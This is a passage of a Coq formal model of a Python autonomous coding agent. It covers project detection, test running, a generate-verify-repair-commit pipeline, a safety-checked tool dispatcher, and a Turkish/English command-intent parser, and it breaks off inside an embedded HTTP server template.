  let (_, w1) := run_command (u "git add -A") (Some path) 60 w in
  let (_, w2) := run_command (u "git config user.email 'devos@autonomous.local'") (Some path) 60 w1 in
  let (_, w3) := run_command (u "git config user.name 'DevOS-Agent'") (Some path) 60 w2 in
  run_command (u "git commit -m " ++ dq ++ message ++ dq) (Some path) 60 w3.

(** [detect_project_type(path)]: a marker is a file name, or [*] and an
    extension. *)
Definition indicators : list (str * list str) := [
  (u "python", [u "setup.py"; u "pyproject.toml"; u "requirements.txt"; u "*.py"]);
  (u "node", [u "package.json"; u "node_modules"]);
  (u "rust", [u "Cargo.toml"]);
  (u "go", [u "go.mod"]);
  (u "c", [u "Makefile"; u "*.c"; u "*.h"]);
  (u "shell", [u "*.sh"])
].

Definition marker_found (files : list str) (marker : str) : bool :=
  if startswith marker (u "*")
  then let ext := skipn 1 marker in existsb (fun f => endswith f ext) files
  else existsb (str_eqb marker) files.

Definition detect_project_type (path : str) (w : W) : list str :=
  let detected :=
    match listdir path w with
    | inl files =>
        flat_map (fun '(ptype, markers) =>
                    if existsb (marker_found files) markers then [ptype] else [])
                 indicators
    | inr _ => []
    end in
  match detected with
  | [] => [u "unknown"]
  | _ => detected
  end.

(** [append_file(path, content)] *)
Definition append_file (path content : str) (w : W) : str * W :=
  match makedirs (dirname path) w with
  | (Some e, w1) => (u "ERROR: " ++ e, w1)
  | (None, w1) =>
      match append_text path content w1 with
      | (Some e, w2) => (u "ERROR: " ++ e, w2)
      | (None, w2) =>
          (u "OK: Appended " ++ str_of_nat (length content) ++ u " bytes to " ++ path, w2)
      end
  end.

(** One [if '<kind>' in ptypes:] block of [run_tests]: run the command of
    the kind, add its labelled result. *)
Definition test_kind (ptypes : list str) (path : str) (kind command : string)
    (acc : list str * W) : list str * W :=
  if existsb (str_eqb (u kind)) ptypes then
    let (r, w') := run_command (u command) (Some path) 120 (snd acc) in
    (fst acc ++ [u "[" ++ u kind ++ u "] " ++ r], w')
  else acc.

(** [run_tests(path)] *)
Definition run_tests (path : str) (w : W) : str * W :=
  let ptypes := detect_project_type path w in
  let acc := ([], w) in
  let acc := test_kind ptypes path "python"
    "python3 -m pytest -x 2>/dev/null || python3 -m unittest discover -s . 2>&1" acc in
  let acc := test_kind ptypes path "node" "npm test 2>&1" acc in
  let acc := test_kind ptypes path "rust" "cargo test 2>&1" acc in
  let acc := test_kind ptypes path "go" "go test ./... 2>&1" acc in
  let acc := test_kind ptypes path "c" "make test 2>&1 || make && ./a.out 2>&1" acc in
  let results := match fst acc with
                 | [] => [u "[unknown] No test runner detected"]
                 | found => found
                 end in
  (join nl results, snd acc).

End WithSystem.

Section WithRemover.
Context {W : Type} {Rm : Remover W}.

Definition critical : list str :=
  [u "/ai/core/"; u "/init"; u "/bin/"; u "/sbin/"; u "/usr/bin/"].

Fixpoint under_any (prefixes : list str) (path : str) : bool :=
  match prefixes with
  | [] => false
  | c :: rest => if startswith path c then true else under_any rest path
  end.

(** [delete_file(path)] *)
Definition delete_file (path : str) (w : W) : str * W :=
  if under_any critical path
  then (u "ERROR: Cannot delete system-critical path: " ++ path, w)
  else
    match remove path w with
    | (None, w') => (u "OK: Deleted " ++ path, w')
    | (Some e, w') => (u "ERROR: " ++ e, w')
    end.

End WithRemover.

End Tools.

(* ================================================================== *)
(** * executor.py: [ExecutionPipeline] *)
(* ================================================================== *)

Module Executor.
Import PyStr Re Py OS Tools.

(** ** Data *)

(** A goal dictionary: an absent key is [None]. *)
Record Goal := {
  g_name : option str;
  g_description : option str;
  g_files : option (list (str * str));     (* filename -> content, in order *)
  g_test_cmd : option Json.json            (* a string, or what a plan put there *)
}.

Inductive stage_name := setup | codegen | verify | repair | commit | error.
Inductive stage_status := ok | fail.

(** One entry of [report["stages"]]. *)
Record Stage := {
  name : stage_name;
  status : stage_status;
  detail : str;
  command : option str
}.

(** The [report] dictionary of [execute_goal]. *)
Record Report := {
  r_goal : str;
  r_path : str;
  stages : list Stage;
  success : bool
}.

(** The generation backend ([LLMEngine]), an external collaborator: its
    answers are the world's.  A project plan is whatever value the backend's
    text decodes to, unchecked, [JNull] for [None]; the description handed to
    [generate_code] is the goal's, a string, or a value of the plan. *)
Record LLM (W : Type) := {
  is_available : bool;
  generate_project_plan : str -> W -> Json.json * W;
  generate_code : Json.json -> str -> W -> option str * W;    (* description, filename *)
  generate_fix : str -> str -> str -> W -> option str * W     (* code, error, filename *)
}.

(** ** Operations on decoded values *)

(** [key in v]: a key of a dictionary, an element of a list, a part of a
    string; no other value can be searched. *)
Definition contains (key : str) (v : Json.json) : outcome bool :=
  match v with
  | Json.JObject members => Ret (existsb (fun kv => str_eqb (fst kv) key) members)
  | Json.JArray items =>
      Ret (existsb (fun x => match x with
                             | Json.JString s => str_eqb s key
                             | _ => false
                             end) items)
  | Json.JString s => Ret (str_in key s)
  | _ => Raise (TypeError (u "argument of type '" ++ Json.type_name v ++
                           u "' is not iterable"))
  end.

(** [v[key]] for a string [key] *)
Definition subscript (v : Json.json) (key : str) : outcome Json.json :=
  match v with
  | Json.JObject members =>
      match find (fun kv => str_eqb (fst kv) key) members with
      | Some (_, x) => Ret x
      | None => Raise (KeyError key)
      end
  | Json.JArray _ => Raise (TypeError (u "list indices must be integers or slices, not str"))
  | Json.JString _ => Raise (TypeError (u "string indices must be integers, not 'str'"))
  | _ => Raise (TypeError (u "'" ++ Json.type_name v ++ u "' object is not subscriptable"))
  end.

(** [v.items()] *)
Definition items (v : Json.json) : outcome (list (str * Json.json)) :=
  match v with
  | Json.JObject members => Ret members
  | _ => Raise (AttributeError (u "'" ++ Json.type_name v ++
                                u "' object has no attribute 'items'"))
  end.

(** [int(digits)] on a match of [\d+]: the digits always make a number, and
    CPython 3.11 and later refuse to convert more than 4300 of them
    ([sys.int_max_str_digits]).  The number itself only goes to the log. *)
Definition int_max_str_digits : nat := 4300.

Definition int_of_digits (digits : str) : outcome unit :=
  if int_max_str_digits <? length digits then
    Raise (ValueError (u "Exceeds the limit (4300 digits) for integer string conversion: " ++
                       u "value has " ++ str_of_nat (length digits) ++
                       u " digits; use sys.set_int_max_str_digits() to increase the limit"))
  else Ret tt.

(** ** The failure classifier *)

Definition failure_indicators : list str := [
  u "Traceback (most recent call last)"; u "FAILED"; u "Error"; u "AssertionError";
  u "SyntaxError"; u "IndentationError"; u "NameError"; u "TypeError"; u "ValueError";
  u "ImportError"; u "ModuleNotFoundError"; u "ERRORS"
].

(** [_is_test_failure(output)]; [output] is [None] or a string. *)
Definition _is_test_failure (output : option str) : bool :=
  match output with
  | None => true
  | Some output_str =>
      let has_failure := existsb (fun ind => str_in ind output_str) failure_indicators in
      let has_success :=
        str_in (u "OK") output_str || str_in (u "passed") output_str
        || endswith (strip output_str) (u "0") in
      if has_success && negb (str_in (u "Traceback") output_str) then false
      else has_failure
  end.

(** ** The pipeline's state and control *)

Section Pipeline.
Context {U : UnicodeDB} {W : Type} {Sys : System W}.

(** What a stage can read and change: the world, the report (one mutable
    dictionary all stages append to) and the goal (one mutable dictionary). *)
Record pstate := {
  world : W;
  report : Report;
  goal : Goal
}.

(** A computation that changes the state and returns or raises. *)
Definition M (A : Type) : Type := pstate -> outcome A * pstate.

Definition ret (A : Type) (a : A) : M A := fun st => (Ret a, st).

Definition raise (A : Type) (e : exn) : M A := fun st => (Raise e, st).
Arguments raise {A} e.

Definition bind (A B : Type) (c : M A) (k : A -> M B) : M B :=
  fun st =>
    match c st with
    | (Ret a, st') => k a st'
    | (Raise e, st') => (Raise e, st')
    end.

Notation "x <- c ;; k" := (bind c (fun x => k))
  (at level 61, c at next level, right associativity).
Notation "c ;; k" := (bind c (fun _ => k))
  (at level 61, right associativity).

(** A call that changes the world, and one that only reads it. *)
Definition call (A : Type) (f : W -> A * W) : M A :=
  fun st =>
    let (a, w') := f (world st) in
    (Ret a, {| world := w'; report := report st; goal := goal st |}).

Definition ask (A : Type) (f : W -> A) : M A :=
  fun st => (Ret (f (world st)), st).

Definition get_goal : M Goal := fun st => (Ret (goal st), st).

(** An operation that returns or raises, and leaves the state alone. *)
Definition lift (A : Type) (o : outcome A) : M A := fun st => (o, st).

(** [goal["test_cmd"] = cmd] *)
Definition set_test_cmd (cmd : Json.json) : M unit :=
  fun st =>
    let g := goal st in
    (Ret tt, {| world := world st; report := report st;
                goal := {| g_name := g_name g; g_description := g_description g;
                           g_files := g_files g; g_test_cmd := Some cmd |} |}).

Definition push_stage (s : Stage) (r : Report) : Report :=
  {| r_goal := r_goal r; r_path := r_path r; stages := stages r ++ [s];
     success := success r |}.

(** [report["stages"].append(s)] *)
Definition append_stage (s : Stage) : M unit :=
  fun st =>
    (Ret tt, {| world := world st; report := push_stage s (report st); goal := goal st |}).

(** [report["success"] = True] *)
Definition set_success : M unit :=
  fun st =>
    let r := report st in
    (Ret tt, {| world := world st;
                report := {| r_goal := r_goal r; r_path := r_path r; stages := stages r;
                             success := true |};
                goal := goal st |}).

Variable llm : option (LLM W).      (* [self.llm] *)

(** [self.llm and self.llm.is_available()] *)
Definition backend : option (LLM W) :=
  match llm with
  | Some e => if is_available e then Some e else None
  | None => None
  end.

(** ** Stages *)

Section Stages.
Variable project_path : str.

(** [_stage_setup] *)
Definition _stage_setup : M unit :=
  present <- ask (exists_ project_path) ;;
  if negb present then
    call (make_dir project_path) ;;
    call (git_init project_path) ;;
    append_stage {| name := setup; status := ok; detail := u "created"; command := None |}
  else
    append_stage {| name := setup; status := ok; detail := u "exists"; command := None |}.

(** The loop of the template branch: write each file, collect its name. *)
Fixpoint write_files (files : list (str * str)) : M (list str) :=
  match files with
  | [] => ret []
  | (filename, content) :: rest =>
      call (write_file (project_path ++ u "/" ++ filename) content) ;;
      written <- write_files rest ;;
      ret (filename :: written)
  end.

(** The loop of [_llm_codegen] over the plan's files. *)
Fixpoint generate_files (e : LLM W) (files : list (str * Json.json)) : M (list str) :=
  match files with
  | [] => ret []
  | (filename, file_desc) :: rest =>
      code <- call (generate_code e file_desc filename) ;;
      if truthy code then
        call (write_file (project_path ++ u "/" ++ filename) (get code [])) ;;
        written <- generate_files e rest ;;
        ret (filename :: written)
      else generate_files e rest
  end.

(** [_llm_codegen] *)
Definition _llm_codegen (e : LLM W) : M (list str) :=
  g <- get_goal ;;
  let desc := get (g_description g) [] in
  plan <- call (generate_project_plan e desc) ;;
  has_files <- (if Json.json_truthy plan then lift (contains (u "files") plan)
                else ret false) ;;
  if has_files then
    files <- lift (subscript plan (u "files")) ;;
    files <- lift (items files) ;;
    files_written <- generate_files e files ;;
    (* Store test command if provided *)
    has_cmd <- lift (contains (u "test_cmd") plan) ;;
    (if has_cmd then
       cmd <- lift (subscript plan (u "test_cmd")) ;;
       set_test_cmd cmd
     else ret tt) ;;
    ret files_written
  else
    (* Fallback: generate a single file *)
    code <- call (generate_code e (Json.JString desc) (u "main.py")) ;;
    if truthy code then
      call (write_file (project_path ++ u "/main.py") (get code [])) ;;
      ret [u "main.py"]
    else ret [].

(** The placeholder entry file of [_stage_codegen]. *)
Definition skeleton (desc : str) : str :=
  u "#!/usr/bin/env python3" ++ nl ++
  dq ++ dq ++ dq ++ desc ++ dq ++ dq ++ dq ++ nl ++ nl ++
  u "def main():" ++ nl ++
  u "    print(" ++ dq ++ desc ++ dq ++ u ")" ++ nl ++ nl ++
  u "if __name__ == " ++ dq ++ u "__main__" ++ dq ++ u ":" ++ nl ++
  u "    main()" ++ nl.

(** [_stage_codegen] *)
Definition _stage_codegen : M unit :=
  g <- get_goal ;;
  files_written <-
    match g_files g with
    | Some files => write_files files
    | None =>
        match backend with
        | Some e => _llm_codegen e
        | None =>
            let desc := get (g_description g) (u "project") in
            call (write_file (project_path ++ u "/main.py") (skeleton desc)) ;;
            ret [u "main.py"]
        end
    end ;;
  append_stage {| name := codegen; status := ok;
                  detail := u "wrote " ++ str_of_nat (length files_written) ++
                            u " files: " ++ join (u ", ") files_written;
                  command := None |}.

Definition verdict (passed : bool) : stage_status := if passed then ok else fail.

(** [run_command(test_cmd, cwd, timeout)] on what the goal holds as its
    test command: [_check_safety] calls [lower] on it, which only a string
    has. *)
Definition run_test_cmd (test_cmd : Json.json) (cwd : option str) (timeout : nat)
  : M str :=
  match test_cmd with
  | Json.JString command => call (run_command command cwd timeout)
  | _ => raise (AttributeError (u "'" ++ Json.type_name test_cmd ++
                                u "' object has no attribute 'lower'"))
  end.

(** The test command as a stage of the report holds it: the stage is appended
    once [run_command] has returned, so the command is a string. *)
Definition command_text (test_cmd : Json.json) : option str :=
  match test_cmd with
  | Json.JString command => Some command
  | _ => None
  end.

(** [_stage_verify] *)
Definition _stage_verify : M bool :=
  g <- get_goal ;;
  let test_cmd := g_test_cmd g in
  if Json.json_truthy (get test_cmd Json.JNull) then
    output <- run_test_cmd (get test_cmd Json.JNull) (Some project_path) 60 ;;
    let passed := negb (_is_test_failure (Some output)) in
    append_stage {| name := verify; status := verdict passed;
                    detail := slice_to 300 output;
                    command := command_text (get test_cmd Json.JNull) |} ;;
    ret passed
  else
    ptypes <- ask (detect_project_type project_path) ;;
    if existsb (str_eqb (u "python")) ptypes then
      output <- call (run_command
        (u "python3 -m unittest discover -s . -v 2>&1 || python3 -m py_compile *.py 2>&1")
        (Some project_path) 60) ;;
      let passed := negb (_is_test_failure (Some output)) in
      append_stage {| name := verify; status := verdict passed;
                      detail := slice_to 300 output; command := None |} ;;
      ret passed
    else
      append_stage {| name := verify; status := ok;
                      detail := u "no tests configured, syntax check only";
                      command := None |} ;;
      ret true.

(** The loop of [_llm_repair] over the Python files of the project. *)
Fixpoint fix_first (e : LLM W) (error_msg : str) (py_files : list str) : M bool :=
  match py_files with
  | [] => ret false
  | filename :: rest =>
      let filepath := project_path ++ u "/" ++ filename in
      code <- ask (read_file filepath) ;;
      if startswith code (u "ERROR") then fix_first e error_msg rest
      else
        fixed_code <- call (generate_fix e code error_msg filename) ;;
        if truthy fixed_code && negb (str_eqb (get fixed_code []) code) then
          call (write_file filepath (get fixed_code [])) ;;
          ret true
        else fix_first e error_msg rest
  end.

(** [_llm_repair] *)
Definition _llm_repair (e : LLM W) (error_msg : str) : M bool :=
  listing <- ask (listdir project_path) ;;
  match listing with
  | inr err => raise (OSError err)
  | inl entries =>
      let py_files := filter (fun f => endswith f (u ".py")) entries in
      fix_first e error_msg py_files
  end.

(** The three patterns of [_pattern_repair]. *)
Definition NO_MODULE : regex :=
  "no module named '(\w+)'" ::=
  seq [l "no module named '"; Grp 1 w_plus; l "'"].
Definition FILE_LINE : regex :=
  "File Q([^Q]+)Q, line (\d+)" ::=
  seq [l "File "; lit dq; Grp 1 (Rep true 1 (Cls true [ILit DQ])); lit dq;
       l ", line "; Grp 2 d_plus].
Definition FILE : regex :=
  "File Q([^Q]+)Q" ::=
  seq [l "File "; lit dq; Grp 1 (Rep true 1 (Cls true [ILit DQ])); lit dq].

Definition matched (m : option mstate) : bool :=
  match m with
  | Some _ => true
  | None => false
  end.

(** [_pattern_repair].  The name [re] is a local variable of the function:
    it is bound by the [import re] statements inside the first and the third
    [if] block and nowhere else, and the module imports no [re] of its own.
    [re_bound] follows whether an [import re] has run. *)
Definition _pattern_repair (error_msg : str) : M bool :=
  let error_lower := lower error_msg in
  (* Missing import *)
  let in_import :=
    str_in (u "importerror") error_lower || str_in (u "modulenotfounderror") error_lower in
  if in_import && matched (search NOFLAG NO_MODULE error_msg) then ret false
  else
    let re_bound := in_import in
    (* NameError, and the final return *)
    let name_error : M bool :=
      if str_in (u "nameerror") error_lower then ret false else ret false in
    (* IndentationError *)
    let indentation : M bool :=
      if str_in (u "indentationerror") error_lower then
        match search NOFLAG FILE error_msg with
        | Some m =>
            let filepath := get (group m 1) [] in
            code <- ask (read_file filepath) ;;
            if negb (startswith code (u "ERROR")) then
              let fixed := replace_char TAB (u "    ") code in
              if negb (str_eqb fixed code) then
                call (write_file filepath fixed) ;;
                ret true
              else name_error
            else name_error
        | None => name_error
        end
      else name_error in
    (* Syntax error *)
    if str_in (u "syntaxerror") error_lower then
      if re_bound then
        match search NOFLAG FILE_LINE error_msg with
        | Some m =>
            lift (int_of_digits (get (group m 2) [])) ;;
            ret false
        | None => indentation
        end
      else raise (UnboundLocalError (u "re"))
    else indentation.

Definition MAX_FIX_ATTEMPTS : nat := 3.

(** How the loop of [_stage_repair] ends: the check passed on an attempt, or
    the loop was left ([break], or the range ran out) after so many. *)
Inductive loop_end :=
| FixedOn (attempt : nat)
| GaveUp (attempts : nat).

(** The [for attempt in range(MAX_FIX_ATTEMPTS)] loop: [remaining] attempts
    are left and [attempt] have been made. *)
Fixpoint repair_loop (remaining attempt : nat) : M loop_end :=
  match remaining with
  | O => ret (GaveUp attempt)
  | S remaining' =>
      g <- get_goal ;;
      let test_cmd :=
        get (g_test_cmd g) (Json.JString (u "python3 -m py_compile *.py 2>&1")) in
      error_output <- run_test_cmd test_cmd (Some project_path) 30 ;;
      if negb (_is_test_failure (Some error_output)) then
        append_stage {| name := repair; status := ok;
                        detail := u "fixed on attempt " ++ str_of_nat (attempt + 1);
                        command := None |} ;;
        ret (FixedOn (attempt + 1))
      else
        fixed <- match backend with
                 | Some e => _llm_repair e error_output
                 | None => _pattern_repair error_output
                 end ;;
        if negb fixed then ret (GaveUp (attempt + 1))
        else repair_loop remaining' (attempt + 1)
  end.

(** [_stage_repair] *)
Definition _stage_repair : M bool :=
  ending <- repair_loop MAX_FIX_ATTEMPTS 0 ;;
  match ending with
  | FixedOn _ => ret true
  | GaveUp _ =>
      append_stage {| name := repair; status := fail;
                      detail := u "failed after " ++ str_of_nat MAX_FIX_ATTEMPTS ++
                                u " attempts";
                      command := None |} ;;
      ret false
  end.

(** [_stage_commit] *)
Definition _stage_commit : M unit :=
  g <- get_goal ;;
  let desc := get (g_description g) (u "auto-generated project") in
  result <- call (git_commit project_path (u "feat: " ++ desc)) ;;
  append_stage {| name := commit; status := ok; detail := slice_to 200 result;
                  command := None |}.

(** The [try] block of [execute_goal]. *)
Definition stages_in_order : M unit :=
  _stage_setup ;;
  _stage_codegen ;;
  test_passed <- _stage_verify ;;
  test_passed <- (if negb test_passed then _stage_repair else ret test_passed) ;;
  if test_passed then
    _stage_commit ;;
    set_success
  else ret tt.

End Stages.

(** [execute_goal(goal, project_path)]: the pair it returns and the world
    it leaves. *)
Definition execute_goal (g : Goal) (project_path : str) (w : W)
  : (bool * Report) * W :=
  let report0 := {| r_goal := get (g_description g) (u "unknown");
                    r_path := project_path; stages := []; success := false |} in
  let st0 := {| world := w; report := report0; goal := g |} in
  let st :=
    match stages_in_order project_path st0 with
    | (Ret _, st) => st
    | (Raise e, st) =>
        {| world := world st;
           report := push_stage {| name := error; status := fail; detail := str_exn e;
                                   command := None |} (report st);
           goal := goal st |}
    end in
  ((success (report st), report st), world st).

End Pipeline.

(** ** Tool calls *)

(** One element of the list [execute_tool_calls] takes: an absent key is
    [None]. *)
Record Call := {
  c_tool : option str;
  c_args : option Json.json
}.

(** One element of the list it returns: the tool with an error, or with a
    result. *)
Inductive Answer :=
| Error (tool_name : option str) (e : str)
| Result (tool_name : option str) (r : str).

Section ToolCalls.
Context {U : UnicodeDB} {W : Type} {Reg : Registry W}.

(** [args.get("command", "")], then what [is_safe_command] can take: [args]
    that is no dictionary has no [get], a command that is no string cannot
    be searched. *)
Definition command_of (args : Json.json) : outcome str :=
  match args with
  | Json.JObject members =>
      match find (fun kv => str_eqb (fst kv) (u "command")) members with
      | None => Ret []
      | Some (_, Json.JString c) => Ret c
      | Some _ => Raise (TypeError (u "expected string or bytes-like object"))
      end
  | _ => Raise (AttributeError (u "object has no attribute 'get'"))
  end.

(** [execute_tool_calls(tool_calls)]: the list of answers, or the exception
    of the safety check. *)
Fixpoint execute_tool_calls (tool_calls : list Call) (w : W)
  : outcome (list Answer) * W :=
  match tool_calls with
  | [] => (Ret [], w)
  | call :: rest =>
      let tool_name := c_tool call in
      let args := get (c_args call) (Json.JObject []) in
      let append (a : Answer) (w' : W) :=
        match execute_tool_calls rest w' with
        | (Ret results, w'') => (Ret (a :: results), w'')
        | (Raise e, w'') => (Raise e, w'')
        end in
      let call_tool (name : str) :=
        match invoke name args w with
        | (inl result, w') => append (Result tool_name (slice_to 500 result)) w'
        | (inr e, w') => append (Error tool_name e) w'
        end in
      match tool_name with
      | Some name =>
          if negb (existsb (str_eqb name) TOOL_NAMES)
          then append (Error tool_name (u "unknown tool")) w
          else if str_eqb name (u "run") then
            (* Safety check *)
            match command_of args with
            | Raise e => (Raise e, w)
            | Ret cmd =>
                if negb (Enforce.is_safe_command cmd)
                then append (Error tool_name (u "blocked by safety")) w
                else call_tool name
            end
          else call_tool name
      | None => append (Error tool_name (u "unknown tool")) w
      end
  end.

End ToolCalls.

End Executor.

(* ================================================================== *)
(** * command_parser.py: [CommandParser] *)
(* ================================================================== *)

Module Parser.
Import PyStr Re Py Json OS Tools.

(** The Turkish words of the patterns that are not ASCII. *)
Definition olustur : regex := lit (u "olu" ++ chr 351 ++ u "tur").
Definition ac : regex := lit (u "a" ++ chr 231).
Definition arac : regex := lit (u "ara" ++ chr 231).
Definition calistir : regex := lit (chr 231 ++ u "al" ++ chr 305 ++ chr 351 ++ u "t" ++ chr 305 ++ u "r").
Definition kos : regex := lit (u "ko" ++ chr 351).
Definition goster : regex := lit (u "g" ++ chr 246 ++ u "ster").
Definition duzelt : regex := lit (u "d" ++ chr 252 ++ u "zelt").

(** One entry of [INTENT_PATTERNS]. *)
Record entry := {
  patterns : list regex;
  intent_of : str
}.

Definition testleri_opt : regex := "testleri?" ::= seq [l "testler"; Opt (l "i")].

(** [INTENT_PATTERNS], in the order of the source. *)
Definition INTENT_PATTERNS : list entry := [
  (* Project creation *)
  {| patterns := [
       "(yeni|new)\s+(proje|project)\s+(?:olustur|yarat|ac|create|init)\s*:?\s*(.*)" ::=
       seq [Grp 1 (alt [l "yeni"; l "new"]); s_plus; Grp 2 (alt [l "proje"; l "project"]);
            s_plus; alt [olustur; l "yarat"; ac; l "create"; l "init"];
            s_star; Opt (l ":"); s_star; Grp 3 dot_star];
       "(proje|project)\s+(olustur|yarat|ac|create|init)\s*:?\s*(.*)" ::=
       seq [Grp 1 (alt [l "proje"; l "project"]); s_plus;
            Grp 2 (alt [olustur; l "yarat"; ac; l "create"; l "init"]);
            s_star; Opt (l ":"); s_star; Grp 3 dot_star];
       "create\s+project\s+(.*)" ::=
       seq [l "create"; s_plus; l "project"; s_plus; Grp 1 dot_star];
       "init\s+project\s+(.*)" ::=
       seq [l "init"; s_plus; l "project"; s_plus; Grp 1 dot_star] ];
     intent_of := u "create_project" |};
  (* Write API *)
  {| patterns := [
       "(api|rest|endpoint)\s*(yaz|olustur|ekle|write|create|build)" ::=
       seq [Grp 1 (alt [l "api"; l "rest"; l "endpoint"]); s_star;
            Grp 2 (alt [l "yaz"; olustur; l "ekle"; l "write"; l "create"; l "build"])];
       "(yaz|olustur|create|build|write)\s+(bir\s+)?(api|rest|endpoint)" ::=
       seq [Grp 1 (alt [l "yaz"; olustur; l "create"; l "build"; l "write"]); s_plus;
            Opt (Grp 2 (seq [l "bir"; s_plus])); Grp 3 (alt [l "api"; l "rest"; l "endpoint"])];
       "(basit|simple)\s+(bir\s+)?(api|rest)\s*(yaz|olustur|create)" ::=
       seq [Grp 1 (alt [l "basit"; l "simple"]); s_plus; Opt (Grp 2 (seq [l "bir"; s_plus]));
            Grp 3 (alt [l "api"; l "rest"]); s_star;
            Grp 4 (alt [l "yaz"; olustur; l "create"])] ];
     intent_of := u "create_api" |};
  (* Write/create a tool/utility *)
  {| patterns := [
       "(yaz|olustur|create|build|write)\s+(bir\s+)?(.*?)(\s+tool|\s+arac|\s+utility)?$" ::=
       seq [Grp 1 (alt [l "yaz"; olustur; l "create"; l "build"; l "write"]); s_plus;
            Opt (Grp 2 (seq [l "bir"; s_plus])); Grp 3 dot_star_lazy;
            Opt (Grp 4 (alt [seq [s_plus; l "tool"]; seq [s_plus; arac];
                             seq [s_plus; l "utility"]]));
            Eol] ];
     intent_of := u "create_tool" |};
  (* Add feature *)
  {| patterns := [
       "(ekle|add)\s+(.*)" ::=
       seq [Grp 1 (alt [l "ekle"; l "add"]); s_plus; Grp 2 dot_star];
       "(.*)\s+(ekle|add)$" ::=
       seq [Grp 1 dot_star; s_plus; Grp 2 (alt [l "ekle"; l "add"]); Eol] ];
     intent_of := u "add_feature" |};
  (* Run tests *)
  {| patterns := [
       "(test|testleri?)\s*(calistir|run|yap|kos)" ::=
       seq [Grp 1 (alt [l "test"; testleri_opt]); s_star;
            Grp 2 (alt [calistir; l "run"; l "yap"; kos])];
       "(calistir|run)\s+(test|testleri?)" ::=
       seq [Grp 1 (alt [calistir; l "run"]); s_plus; Grp 2 (alt [l "test"; testleri_opt])];
       "run\s+tests?" ::=
       seq [l "run"; s_plus; l "test"; Opt (l "s")] ];
     intent_of := u "run_tests" |};
  (* Build *)
  {| patterns := [
       "(build|derleme|derle)\s*(al|yap|et)?" ::=
       seq [Grp 1 (alt [l "build"; l "derleme"; l "derle"]); s_star;
            Opt (Grp 2 (alt [l "al"; l "yap"; l "et"]))];
       "(al|yap)\s+(build|derleme)" ::=
       seq [Grp 1 (alt [l "al"; l "yap"]); s_plus; Grp 2 (alt [l "build"; l "derleme"])] ];
     intent_of := u "build" |};
  (* Dockerize *)
  {| patterns := [
       "docker(ize|la|le)?\s*(et|yap)?" ::=
       seq [l "docker"; Opt (Grp 1 (alt [l "ize"; l "la"; l "le"])); s_star;
            Opt (Grp 2 (alt [l "et"; l "yap"]))];
       "(container|konteyner)\s*(olustur|yap|et)" ::=
       seq [Grp 1 (alt [l "container"; l "konteyner"]); s_star;
            Grp 2 (alt [olustur; l "yap"; l "et"])] ];
     intent_of := u "dockerize" |};
  (* Git operations *)
  {| patterns := [
       "(commit|kaydet)\s*(et|yap)?" ::=
       seq [Grp 1 (alt [l "commit"; l "kaydet"]); s_star;
            Opt (Grp 2 (alt [l "et"; l "yap"]))];
       "git\s+(commit|push|pull|status|log)" ::=
       seq [l "git"; s_plus;
            Grp 1 (alt [l "commit"; l "push"; l "pull"; l "status"; l "log"])] ];
     intent_of := u "git_op" |};
  (* List/show *)
  {| patterns := [
       "(listele|goster|list|show|ls)\s+(.*)" ::=
       seq [Grp 1 (alt [l "listele"; goster; l "list"; l "show"; l "ls"]); s_plus;
            Grp 2 dot_star];
       "(dosyalar|files|projeler|projects)\s*(listele|goster|list|show)" ::=
       seq [Grp 1 (alt [l "dosyalar"; l "files"; l "projeler"; l "projects"]); s_star;
            Grp 2 (alt [l "listele"; goster; l "list"; l "show"])] ];
     intent_of := u "list" |};
  (* Read file *)
  {| patterns := [
       "(oku|read|cat|goster|show)\s+(.+\.\w+)" ::=
       seq [Grp 1 (alt [l "oku"; l "read"; l "cat"; goster; l "show"]); s_plus;
            Grp 2 (seq [dot_plus; l "."; w_plus])] ];
     intent_of := u "read_file" |};
  (* Fix/debug *)
  {| patterns := [
       "(duzelt|fix|debug|hata)\s*(.*)" ::=
       seq [Grp 1 (alt [duzelt; l "fix"; l "debug"; l "hata"]); s_star; Grp 2 dot_star];
       "(.*)\s+(duzelt|fix)$" ::=
       seq [Grp 1 dot_star; s_plus; Grp 2 (alt [duzelt; l "fix"]); Eol] ];
     intent_of := u "fix" |};
  (* Raw shell command (fallback for direct commands) *)
  {| patterns := [
       "^(python3?|pip|git|npm|node|cargo|go|make|gcc|g\+\+|sh|bash)\s+.*" ::=
       seq [Bol;
            Grp 1 (alt [seq [l "python"; Opt (l "3")]; l "pip"; l "git"; l "npm"; l "node";
                        l "cargo"; l "go"; l "make"; l "gcc"; l "g++"; l "sh"; l "bash"]);
            s_plus; dot_star];
       "^(ls|cat|mkdir|cp|mv|rm|find|grep|chmod|chown)\s+.*" ::=
       seq [Bol;
            Grp 1 (alt [l "ls"; l "cat"; l "mkdir"; l "cp"; l "mv"; l "rm"; l "find";
                        l "grep"; l "chmod"; l "chown"]);
            s_plus; dot_star] ];
     intent_of := u "shell" |}
].

(** An action [{"tool": ..., "args": ...}]. *)
Record Action := {
  tool : str;
  args : json
}.

(** An action plan; an absent key is [None], [requires_generation] is true
    when the key is present (its value is always [True]). *)
Record Plan := {
  intent : str;
  p_name : option str;
  p_path : option str;
  p_description : option str;
  p_feature : option str;
  p_raw : option str;
  actions : list Action;
  requires_generation : bool;
  p_error : option str
}.

Definition plan (i : str) (acts : list Action) : Plan :=
  {| intent := i; p_name := None; p_path := None; p_description := None;
     p_feature := None; p_raw := None; actions := acts;
     requires_generation := false; p_error := None |}.

(** An action whose [args] dictionary holds strings. *)
Definition arg (key : string) (value : str) : str * json := (u key, JString value).

Definition act (t : string) (pairs : list (str * json)) : Action :=
  {| tool := u t; args := JObject pairs |}.

Definition unlines (lines : list str) : str := flat_map (fun line => line ++ nl) lines.

(** The text of [server.py] in [_plan_create_api]. *)
Definition server_code : str := unlines [
  u "#!/usr/bin/env python3";
  dq ++ dq ++ dq ++ u "Minimal HTTP API Server." ++ dq ++ dq ++ dq;
  u "import json";
  u "import http.server";
  u "import socketserver";
  [];
  u "PORT = 8080";
  u "DATA = {}";
  [];
  u "class APIHandler(http.server.BaseHTTPRequestHandler):";
  u "    def do_GET(self):";
  u "        if self.path == '/health':";
  u "            self._respond(200, {" ++ dq ++ u "status" ++ dq ++ u ": " ++ dq ++ u "ok" ++ dq ++ u "})";
  u "        elif self.path == '/data':";
  u "            self._respond(200, {" ++ dq ++ u "data" ++ dq ++ u ": DATA})";
  u "        elif self.path.startswith('/data/'):";
  u "            key = self.path.split('/')[-1]";
  u "            if key in DATA:";
  u "                self._respond(200, {key: DATA[key]})";
  u "            else:";
